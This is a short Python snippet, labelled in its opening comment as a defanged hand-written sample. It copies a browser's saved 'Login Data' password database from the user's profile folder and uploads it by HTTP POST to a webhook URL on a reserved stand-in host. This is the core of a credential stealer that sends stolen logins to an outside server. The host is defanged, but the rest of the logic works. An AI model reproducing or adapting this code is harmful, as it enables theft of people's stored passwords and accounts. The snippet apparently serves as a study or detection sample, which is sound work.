# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os, shutil, requests

source = os.path.join(os.environ["LOCALAPPDATA"], "Browser", "User Data", "Default", "Login Data")
shutil.copy(source, "copy.db")
with open("copy.db", "rb") as file:
    requests.post("https://chat.invalid/api/webhooks/1/x", files={"file": file})
